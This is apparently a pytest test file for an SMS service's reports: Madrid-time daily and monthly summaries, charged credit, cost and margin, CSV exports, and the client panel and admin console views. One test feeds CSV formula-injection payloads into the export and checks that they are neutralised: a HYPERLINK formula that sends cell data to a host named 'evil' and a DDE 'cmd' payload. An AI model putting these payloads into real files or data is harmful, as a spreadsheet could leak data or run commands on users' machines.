"""SMS reports: golden numbers worked out by hand (operator demo is in Europe/Madrid), the client panel's reports
page and the operator console's summary.

The traffic (`traffic` fixture) of clients A and B, UTC → Madrid day:

| id | accepted (UTC)   | Madrid | client, dest  | type    | parts | per part | price  | cost  | status      | charged |
|----|------------------|--------|---------------|---------|-------|----------|--------|-------|-------------|---------|
| m2 | 2026-03-09 22:59 | 03-09  | A ES Movistar | unicode | 3     | 0.05     | 0.15   | 0.06  | delivered   | yes     |
| m1 | 2026-03-09 23:30 | 03-10  | A ES Movistar | text    | 1     | 0.05     | 0.05   | 0.02  | delivered   | yes     |
| m8 | 2026-03-10 09:00 | 03-10  | A FR Orange   | text    | 3     | 0.0035   | 0.0105 | 0.003 | delivered   | yes     |
| m3 | 2026-03-10 10:00 | 03-10  | A ES Vodafone | text    | 2     | 0.05     | 0.10   | 0.04  | undelivered | yes     |
| m7 | 2026-03-10 10:30 | 03-10  | B ES Movistar | text    | 1     | 0.05     | 0.05   | 0.02  | delivered   | yes     |
| m4 | 2026-03-10 11:00 | 03-10  | A ES Movistar | text    | 1     | 0.05     | 0.05   | 0.02  | rejected    | refund  |
| m5 | 2026-03-10 12:00 | 03-10  | A ES Movistar | text    | 2     | 0.05     | 0.10   | 0.04  | accepted    | no      |
| m6 | 2026-03-31 22:30 | 04-01  | A FR Orange   | text    | 1     | 0.07     | 0.07   | 0.03  | delivered   | yes     |

(Madrid is UTC+1 until 29 March, UTC+2 after: m1 is on the 10th, m6 in April, though both are on the day before in
UTC.)
"""

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from billing.models import Cdr
from conftest import login_as
from sms.models import Message, SmsJob
from sms.selectors_reports import (
    MessageFilters,
    ReportInvalid,
    sms_message_report,
    sms_message_report_csv,
    sms_summary_report,
    sms_today_totals,
)

pytestmark = pytest.mark.django_db

MADRID = ZoneInfo("Europe/Madrid")
D = Decimal


def utc(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def madrid_day(year: int, month: int, day: int) -> datetime:
    return datetime(year, month, day, tzinfo=MADRID)


def message_make(customer, at: datetime, **fields) -> Message:
    """A message as the services leave it, accepted at `at`."""
    parts = fields.pop("parts", 1)
    per_part = D(fields.pop("price_per_part", "0.05"))
    charged = fields.pop("charged", True)
    refunded = fields.pop("refunded", False)
    kept_parts = fields.pop("kept_parts", None)
    values = {
        "customer": customer,
        "request_id": uuid.uuid4(),
        "sender": "TEXTCO",
        "destination": "+34612345678",
        "text": "hello",
        "encoding": "gsm7",
        "length": 5,
        "parts": parts,
        "price_per_part": per_part,
        "price": per_part * parts,
        "cost": D("0.02") * parts,
        "currency": "EUR",
        "status": "delivered",
        "country": "ES",
        "mobile_operator": "Movistar",
        "valid_until": at + timedelta(days=2),
        "not_before": at,
        "charged_at": at if charged else None,
        "refunded_at": at if refunded else None,
        **fields,
    }
    message = Message.objects.create(**values)
    Message.objects.filter(pk=message.pk).update(created_at=at)  # created_at is set on insert
    message.created_at = at
    if charged:  # the charge record submission writes (a refund leaves the parts an SMSC accepted in it)
        kept = kept_parts if kept_parts is not None else (0 if refunded else parts)
        Cdr.objects.create(
            source="sms",
            source_id=str(message.pk),
            service="sms",
            callee=message.destination.lstrip("+"),
            start=at,
            units=kept,
            status="rated",
            price=per_part * kept,
            cost=message.cost * kept / parts,
            currency=message.currency,
        )
    return message


@pytest.fixture
def traffic(sms_world, in_schema):
    a, b = sms_world.client.customer, sms_world.other.customer
    with in_schema("demo"):
        m = {
            "m2": message_make(a, utc("2026-03-09T22:59"), parts=3, encoding="ucs2", destination="+34611111112"),
            "m1": message_make(a, utc("2026-03-09T23:30"), destination="+34611111111"),
            "m8": message_make(
                a,
                utc("2026-03-10T09:00"),
                parts=3,
                price_per_part="0.0035",
                cost=D("0.003"),
                country="FR",
                mobile_operator="Orange",
                destination="+33612345678",
            ),
            "m3": message_make(
                a,
                utc("2026-03-10T10:00"),
                parts=2,
                mobile_operator="Vodafone",
                status="undelivered",
                error_code="1",
                error_description="Absent subscriber",
                destination="+34622222222",
            ),
            "m7": message_make(b, utc("2026-03-10T10:30"), sender="OTHER", destination="+34699999999"),
            "m4": message_make(
                a,
                utc("2026-03-10T11:00"),
                status="rejected",
                refunded=True,
                error_code="smsc_rejected",
                error_description="Every gateway refused the message",
                destination="+34611111113",
            ),
            "m5": message_make(a, utc("2026-03-10T12:00"), parts=2, status="accepted", charged=False),
            "m6": message_make(
                a,
                utc("2026-03-31T22:30"),
                price_per_part="0.07",
                cost=D("0.03"),
                country="FR",
                mobile_operator="Orange",
                destination="+33700000000",
            ),
        }
    return m


def selects(queries) -> list[str]:
    """The queries run, less the search_path switch of the schema context."""
    return [q["sql"] for q in queries if not q["sql"].startswith("SET search_path")]


def _key(row: dict) -> tuple:
    return row["period"], row["country"], row["mobile_operator"]


# --- today ----------------------------------------------------------------------------------------------------------


def test_today_counts_the_operators_local_day_and_only_deducted_credit(sms_world, traffic, in_schema):
    with in_schema("demo"), CaptureQueriesContext(connection) as queries:
        today = sms_today_totals(customer=sms_world.client.customer, tz="Europe/Madrid", now=utc("2026-03-10T20:00"))
    assert len(selects(queries)) == 1
    # m1 (00:30 Madrid), m8, m3, m4, m5 — not m2 (23:59 the day before), not B's m7
    assert today["date"].isoformat() == "2026-03-10"
    assert (today["messages"], today["parts"], today["credit"], today["currency"]) == (5, 6, D("0.16"), "EUR")
    assert (today["pending"], today["delivered"], today["failed"]) == (1, 2, 2)
    assert today["by_status"]["rejected"] == 1 and today["by_status"]["accepted"] == 1


def test_today_for_staff_counts_every_client(sms_world, traffic, in_schema):
    with in_schema("demo"):
        today = sms_today_totals(customer=None, tz="Europe/Madrid", now=utc("2026-03-10T20:00"))
    assert (today["messages"], today["parts"], today["credit"]) == (6, 7, D("0.21"))  # + m7


def test_today_just_after_midnight_in_madrid_is_already_the_next_day(sms_world, traffic, in_schema):
    with in_schema("demo"):
        today = sms_today_totals(customer=sms_world.client.customer, tz="Europe/Madrid", now=utc("2026-03-09T23:05"))
    assert today["date"].isoformat() == "2026-03-10" and today["messages"] == 5


def test_parts_an_smsc_accepted_before_the_message_was_rejected_stay_in_the_credit(demo_client, sms_world, in_schema):
    """A 3-part message whose first part went out before every gateway refused the rest: 1 part stays charged."""
    from sms.selectors_jobs import jobs_progress
    from sms.services import messages_claim, submission_results_record
    from sms.services.submission import MessageOutcome, PartOutcome

    response = demo_client.post(
        "/api/v1/sms/messages",
        {"to": "+34612345678", "text": "a" * 400},
        content_type="application/json",
        **sms_world.auth,
    )
    assert response.status_code == 201, response.content
    message_id = response.json()["messages"][0]["id"]
    with in_schema("demo"):
        (submission,) = messages_claim(token="test-runner", limit=10, choose=lambda gateways: gateways[0])
        gateway_id = sms_world.gateway.pk
        submission.accepted[0] = ("a0", gateway_id)
        submission.tried.add(gateway_id)
        submission_results_record(
            parts=[PartOutcome(message_id, 0, gateway_id, 0, "a0"), PartOutcome(message_id, 1, gateway_id, 0x45, None)],
            completed=[MessageOutcome(submission, rejected_status=0x45)],
        )
        message = Message.objects.get(pk=message_id)
        assert (message.status, message.parts, message.price) == ("rejected", 3, D("0.15"))
        customer = sms_world.client.customer
        start, end = message.created_at - timedelta(hours=1), message.created_at + timedelta(hours=1)
        (row,) = sms_message_report(customer=customer, start=start, end=end)
        summary = sms_summary_report(customer=customer, start=start, end=end)
        today = sms_today_totals(customer=customer, now=message.created_at)
        job = SmsJob.objects.create(customer=customer, sender="TEXTCO", template="t", number_column="to", total_rows=1)
        Message.objects.filter(pk=message_id).update(job=job)
        spent = jobs_progress(jobs=[job])[job.pk]["spent"]
    assert row["credit"] == D("0.05")  # the kept part, not 0
    ((line,), (total,)) = summary["rows"], summary["totals"]
    assert (line["parts"], line["credit"], line["unit_price"]) == (1, D("0.05"), D("0.05"))
    assert (total["parts"], total["credit"]) == (1, D("0.05"))
    assert (today["parts"], today["credit"]) == (1, D("0.05"))
    assert spent == D("0.05")  # a job's progress counts it alike


# --- per message ----------------------------------------------------------------------------------------------------


def test_the_message_report_lists_a_clients_day_newest_first_with_credit_deducted(sms_world, traffic, in_schema):
    with in_schema("demo"):
        rows = list(
            sms_message_report(
                customer=sms_world.client.customer, start=madrid_day(2026, 3, 10), end=madrid_day(2026, 3, 11)
            )
        )
    m = traffic
    assert [r["id"] for r in rows] == [m["m5"].pk, m["m4"].pk, m["m3"].pk, m["m8"].pk, m["m1"].pk]
    credit = {r["id"]: r["credit"] for r in rows}
    assert credit == {
        m["m5"].pk: D(0),  # queued: reserved, not deducted
        m["m4"].pk: D(0),  # refunded
        m["m3"].pk: D("0.10"),  # undelivered but charged
        m["m8"].pk: D("0.0105"),
        m["m1"].pk: D("0.05"),
    }
    m3 = next(r for r in rows if r["id"] == m["m3"].pk)
    assert (m3["type"], m3["mobile_operator"], m3["error_code"], m3["error_description"]) == (
        "text",
        "Vodafone",
        "1",
        "Absent subscriber",
    )
    assert "cost" not in m3  # clients never see the operator's cost


def test_the_message_report_filters(sms_world, traffic, in_schema):
    a = sms_world.client.customer
    start, end = madrid_day(2026, 3, 9), madrid_day(2026, 3, 11)

    def ids(**filters):
        with in_schema("demo"):
            return {
                r["id"] for r in sms_message_report(customer=a, start=start, end=end, filters=MessageFilters(**filters))
            }

    m = traffic
    assert ids(statuses=("undelivered", "rejected")) == {m["m3"].pk, m["m4"].pk}
    assert ids(number_prefix="3461111") == {m["m1"].pk, m["m2"].pk, m["m4"].pk}
    assert ids(country="fr") == {m["m8"].pk}
    assert ids(mobile_operator="vodafone") == {m["m3"].pk}
    assert ids(sender="OTHER") == set()  # B's sender: never A's rows
    with in_schema("demo"):
        staff = {
            r["id"]
            for r in sms_message_report(
                customer=None, start=start, end=end, filters=MessageFilters(client=sms_world.other)
            )
        }
    assert staff == {m["m7"].pk}


def test_the_message_report_refuses_a_client_filter_from_a_client_and_long_periods(sms_world, in_schema):
    with in_schema("demo"), pytest.raises(ReportInvalid) as error:
        sms_message_report(
            customer=sms_world.client.customer,
            start=madrid_day(2026, 3, 1),
            end=madrid_day(2026, 3, 2),
            filters=MessageFilters(client=sms_world.other),
        )
    assert error.value.field == "client"
    with in_schema("demo"), pytest.raises(ReportInvalid) as error:
        sms_message_report(customer=None, start=madrid_day(2025, 1, 1), end=madrid_day(2026, 1, 3))
    assert error.value.field == "to" and "366" in str(error.value)


def test_the_message_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(sms_world, in_schema):
    with in_schema("demo"):
        at = utc("2026-03-10T09:00")
        message_make(sms_world.client.customer, at, client_reference='=HYPERLINK("http://evil/?"&A1)', sender="@SUM")
        message_make(sms_world.client.customer, at, client_reference="-2+3", error_description="+cmd|' /C calc'!A0")
        rows = sms_message_report(customer=None, start=at, end=at + timedelta(minutes=1))
        lines = list(csv.reader(io.StringIO("".join(sms_message_report_csv(rows=rows, staff=True, tz="UTC")))))
    header, *body = lines
    cells = [dict(zip(header, line, strict=True)) for line in body]
    assert [c["client_reference"] for c in cells] == ["'-2+3", '\'=HYPERLINK("http://evil/?"&A1)']
    assert cells[1]["sender"] == "'@SUM" and cells[0]["description"] == "'+cmd|' /C calc'!A0"
    assert cells[0]["number"] == "+34612345678"  # a plain number stays as it is


def test_the_message_csv_has_the_report_columns_in_the_operators_time(sms_world, traffic, in_schema):
    with in_schema("demo"):
        rows = sms_message_report(
            customer=sms_world.client.customer, start=madrid_day(2026, 3, 10), end=madrid_day(2026, 3, 11)
        )
        lines = list(
            csv.reader(io.StringIO("".join(sms_message_report_csv(rows=rows, staff=False, tz="Europe/Madrid"))))
        )
    assert lines[0] == [
        "message_id",
        "date",
        "number",
        "type",
        "length",
        "parts",
        "sender",
        "country",
        "operator",
        "credit",
        "currency",
        "status",
        "error_code",
        "description",
        "client_reference",
    ]
    assert len(lines) == 6
    m1 = lines[-1]
    assert m1[:12] == [
        str(traffic["m1"].pk),
        "2026-03-10T00:30:00+01:00",
        "+34611111111",
        "text",
        "5",
        "1",
        "TEXTCO",
        "ES",
        "Movistar",
        "0.050000",
        "EUR",
        "delivered",
    ]


def test_the_staff_message_csv_names_the_client_and_the_cost(sms_world, traffic, in_schema):
    with in_schema("demo"):
        rows = sms_message_report(customer=None, start=madrid_day(2026, 3, 10), end=madrid_day(2026, 3, 11))
        lines = list(
            csv.reader(io.StringIO("".join(sms_message_report_csv(rows=rows, staff=True, tz="Europe/Madrid"))))
        )
    assert lines[0][-3:] == ["client_id", "client", "cost"]
    m7 = next(line for line in lines if line[0] == str(traffic["m7"].pk))
    assert m7[-3:] == [str(sms_world.other.pk), sms_world.other.customer.name, "0.020000"]


# --- summary --------------------------------------------------------------------------------------------------------


def test_the_daily_summary_splits_at_midnight_in_madrid(sms_world, traffic, in_schema):
    with in_schema("demo"), CaptureQueriesContext(connection) as queries:
        report = sms_summary_report(
            customer=sms_world.client.customer,
            start=madrid_day(2026, 3, 1),
            end=madrid_day(2026, 5, 1),
            group="day",
            tz="Europe/Madrid",
        )
    assert len(selects(queries)) == 1
    rows = {_key(r): r for r in report["rows"]}
    assert list(rows) == [
        ("2026-03-09", "ES", "Movistar"),
        ("2026-03-10", "ES", "Movistar"),
        ("2026-03-10", "ES", "Vodafone"),
        ("2026-03-10", "FR", "Orange"),
        ("2026-04-01", "FR", "Orange"),
    ]
    day9 = rows["2026-03-09", "ES", "Movistar"]
    assert (day9["messages"], day9["parts"], day9["unit_price"], day9["credit"]) == (1, 3, D("0.05"), D("0.15"))
    movistar = rows["2026-03-10", "ES", "Movistar"]  # m1, m4 (refunded), m5 (queued): one part deducted
    assert (movistar["messages"], movistar["delivered"], movistar["failed"]) == (3, 1, 1)
    assert (movistar["parts"], movistar["credit"]) == (1, D("0.05"))
    orange = rows["2026-03-10", "FR", "Orange"]  # 3 × 0.0035 = 0.0105, rounded once to 0.01
    assert (orange["parts"], orange["unit_price"], orange["credit"]) == (3, D("0.003500"), D("0.01"))
    assert "cost" not in orange and "margin" not in orange  # a client's report
    (total,) = report["totals"]
    # exact credit 0.15 + 0.05 + 0.10 + 0.0105 + 0.07 = 0.3805 over 10 parts, rounded once
    assert (total["currency"], total["messages"], total["parts"], total["credit"], total["unit_price"]) == (
        "EUR",
        7,
        10,
        D("0.38"),
        D("0.038050"),
    )


def test_the_monthly_summary_for_staff_has_cost_and_margin(sms_world, traffic, in_schema):
    with in_schema("demo"):
        report = sms_summary_report(
            customer=None,
            start=madrid_day(2026, 3, 1),
            end=madrid_day(2026, 5, 1),
            group="month",
            tz="Europe/Madrid",
            client=sms_world.client,
        )
    rows = {_key(r): r for r in report["rows"]}
    assert list(rows) == [
        ("2026-03", "ES", "Movistar"),
        ("2026-03", "ES", "Vodafone"),
        ("2026-03", "FR", "Orange"),
        ("2026-04", "FR", "Orange"),
    ]
    movistar = rows["2026-03", "ES", "Movistar"]  # m2, m1, m4, m5
    assert (movistar["messages"], movistar["delivered"], movistar["failed"], movistar["parts"]) == (4, 2, 1, 4)
    assert (movistar["credit"], movistar["cost"], movistar["unit_cost"], movistar["margin"]) == (
        D("0.20"),
        D("0.08"),
        D("0.02"),
        D("0.12"),
    )
    april = rows["2026-04", "FR", "Orange"]  # m6: 22:30 UTC on 31 March is April in Madrid
    assert (april["messages"], april["credit"], april["cost"], april["margin"]) == (1, D("0.07"), D("0.03"), D("0.04"))
    (total,) = report["totals"]
    # exact cost 0.06 + 0.02 + 0.003 + 0.04 + 0.03 = 0.153; margin 0.3805 - 0.153 = 0.2275 → 0.23 (half-up)
    assert (total["credit"], total["cost"], total["margin"], total["unit_cost"]) == (
        D("0.38"),
        D("0.15"),
        D("0.23"),
        D("0.015300"),
    )


def test_the_staff_summary_per_client_keeps_clients_apart(sms_world, traffic, in_schema):
    with in_schema("demo"), CaptureQueriesContext(connection) as queries:
        report = sms_summary_report(
            customer=None,
            start=madrid_day(2026, 3, 10),
            end=madrid_day(2026, 3, 11),
            tz="Europe/Madrid",
            per_client=True,
        )
    assert len(selects(queries)) == 2  # the aggregate, and the clients' names
    movistar = {r["client_name"]: r for r in report["rows"] if r["mobile_operator"] == "Movistar"}
    a, b = sms_world.client, sms_world.other
    assert set(movistar) >= {a.customer.name, b.customer.name}
    assert (movistar[b.customer.name]["client_id"], movistar[b.customer.name]["messages"]) == (b.pk, 1)
    assert movistar[a.customer.name]["messages"] == 3


def test_a_clients_summary_never_counts_another_clients_messages(sms_world, traffic, in_schema):
    with in_schema("demo"):
        report = sms_summary_report(
            customer=sms_world.other.customer,
            start=madrid_day(2026, 3, 1),
            end=madrid_day(2026, 5, 1),
            tz="Europe/Madrid",
        )
        with pytest.raises(ReportInvalid) as error:
            sms_summary_report(
                customer=sms_world.other.customer,
                start=madrid_day(2026, 3, 1),
                end=madrid_day(2026, 5, 1),
                per_client=True,
            )
    assert [(r["period"], r["messages"], r["credit"]) for r in report["rows"]] == [("2026-03-10", 1, D("0.05"))]
    assert error.value.field == "per_client"


def test_the_summary_refuses_an_unknown_grouping(sms_world, in_schema):
    with in_schema("demo"), pytest.raises(ReportInvalid) as error:
        sms_summary_report(customer=None, start=madrid_day(2026, 3, 1), end=madrid_day(2026, 3, 2), group="week")
    assert error.value.field == "by"


# --- client panel ---------------------------------------------------------------------------------------------------


@pytest.fixture
def panel(sms_world, in_schema):
    http = Client(HTTP_HOST="demo.localhost")
    with in_schema("demo"):
        user = get_user_model().objects.get(customer_member__customer=sms_world.client.customer)
    login_as(http, "demo", user.username)
    return http


def test_the_panel_reports_page_shows_the_period_summary_and_messages(panel, traffic):
    page = panel.get("/sms/reports/", {"period_from": "2026-03-10", "period_to": "2026-03-10", "by": "day"})
    assert page.status_code == 200
    body = page.content.decode()
    assert f"<td>{traffic['m3'].pk}</td>" in body and f"<td>{traffic['m1'].pk}</td>" in body
    assert f"<td>{traffic['m7'].pk}</td>" not in body and "+34699999999" not in body  # B's
    assert f"<td>{traffic['m2'].pk}</td>" not in body  # the 9th in Madrid
    assert "<td>Vodafone</td>" in body and "0.10 EUR" in body and 'data-testid="today-messages"' in body
    assert "/sms/reports/messages.csv?period_from=2026-03-10" in body


def test_the_panel_csv_streams_the_clients_messages(panel, traffic):
    response = panel.get("/sms/reports/messages.csv", {"period_from": "2026-03-09", "period_to": "2026-03-10"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="sms-messages-20260309-20260310.csv"' in response["Content-Disposition"]
    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert lines[0][0] == "message_id" and "client" not in lines[0]
    ids = {int(line[0]) for line in lines[1:]}
    m = traffic
    assert ids == {m[k].pk for k in ("m1", "m2", "m3", "m4", "m5", "m8")}


def test_the_panel_shows_a_bad_period(panel):
    page = panel.get("/sms/reports/", {"period_from": "2026-03-10", "period_to": "2026-03-01"}).content.decode()
    assert 'data-testid="error-period_to"' in page
    assert (
        panel.get("/sms/reports/messages.csv", {"period_from": "2025-01-01", "period_to": "2026-03-01"}).status_code
        == 400
    )


def test_the_panel_reports_are_for_sms_clients_only(acme_client, sms_world):
    login_as(acme_client, "demo", "boss@acme.example")
    assert acme_client.get("/sms/reports/").status_code == 404
    assert Client(HTTP_HOST="demo.localhost").get("/sms/reports/").status_code == 302


def test_the_messages_page_links_to_the_reports(panel):
    assert b'href="/sms/reports/"' in panel.get("/sms/messages/").content


# --- operator console -----------------------------------------------------------------------------------------------


@pytest.fixture
def console(demo_client):
    login_as(demo_client, "demo", "admin@demo.localhost")
    return demo_client


def test_the_console_summary_shows_cost_and_margin_per_client(console, sms_world, traffic):
    assert b"/admin/sms/message/reports/" in console.get("/admin/sms/message/").content
    assert console.get("/admin/sms/message/reports/").status_code == 200  # this month by default
    query = {"period_from": "2026-03-01", "period_to": "2026-04-30", "group": "month", "client": sms_world.client.pk}
    body = console.get("/admin/sms/message/reports/", query).content.decode()
    assert "<td>Vodafone</td>" in body and "<th>0.38</th><th>0.015300</th><th>0.15</th><th>0.23</th>" in body
    per_client = console.get("/admin/sms/message/reports/", {**query, "client": "", "per_client": "on"})
    assert sms_world.other.customer.name in per_client.content.decode()


def test_the_console_exports_the_summary_and_the_messages_as_csv(console, sms_world, traffic):
    query = {"period_from": "2026-03-10", "period_to": "2026-03-10", "group": "day", "client": sms_world.client.pk}
    summary = console.get("/admin/sms/message/reports/", {**query, "format": "csv"})
    lines = list(csv.reader(io.StringIO(b"".join(summary.streaming_content).decode())))
    assert lines[0] == [
        "period",
        "country",
        "operator",
        "currency",
        "messages",
        "delivered",
        "failed",
        "parts",
        "unit_price",
        "credit",
        "unit_cost",
        "cost",
        "margin",
    ]
    assert [
        "2026-03-10",
        "ES",
        "Vodafone",
        "EUR",
        "1",
        "0",
        "1",
        "2",
        "0.050000",
        "0.10",
        "0.020000",
        "0.04",
        "0.06",
    ] in lines
    assert lines[-1][0] == "total" and lines[-1][4] == "5"
    messages = console.get("/admin/sms/message/reports/", {**query, "format": "messages_csv"})
    rows = list(csv.reader(io.StringIO(b"".join(messages.streaming_content).decode())))
    assert rows[0][-3:] == ["client_id", "client", "cost"] and len(rows) == 6  # A's five on the 10th


def test_the_console_refuses_a_long_period(console, sms_world):
    body = console.get(
        "/admin/sms/message/reports/", {"period_from": "2025-01-01", "period_to": "2026-03-01", "group": "day"}
    )
    assert body.status_code == 200 and b"at most 366 days" in body.content
